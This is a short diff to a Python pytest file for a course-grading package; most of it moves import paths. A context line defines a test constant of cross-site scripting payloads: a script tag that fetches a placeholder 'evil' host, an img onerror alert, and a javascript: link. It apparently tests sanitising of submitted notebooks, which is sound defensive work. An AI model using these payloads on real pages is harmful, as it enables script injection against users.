@@ -15,13 +15,13 @@ from typing import TYPE_CHECKING, Any
 import pytest
 
 from handed_in import NAME, content, course_folder, nbgrader, submission
+from knowshow.exercises.responses import RefusedError
 from knowshow.grading import bulk, harmless, zips
-from knowshow.responses import RefusedError
 
 if TYPE_CHECKING:
     from collections.abc import Callable
 
-    from knowshow.grading.course import Exercise
+    from knowshow.exercises.course_folder import Exercise
 
 SCRIPT = "<script>fetch('//evil')</script><img src=x onerror=alert(1)> $\\href{javascript:alert(1)}{x}$"
 EVIL_CELL = """
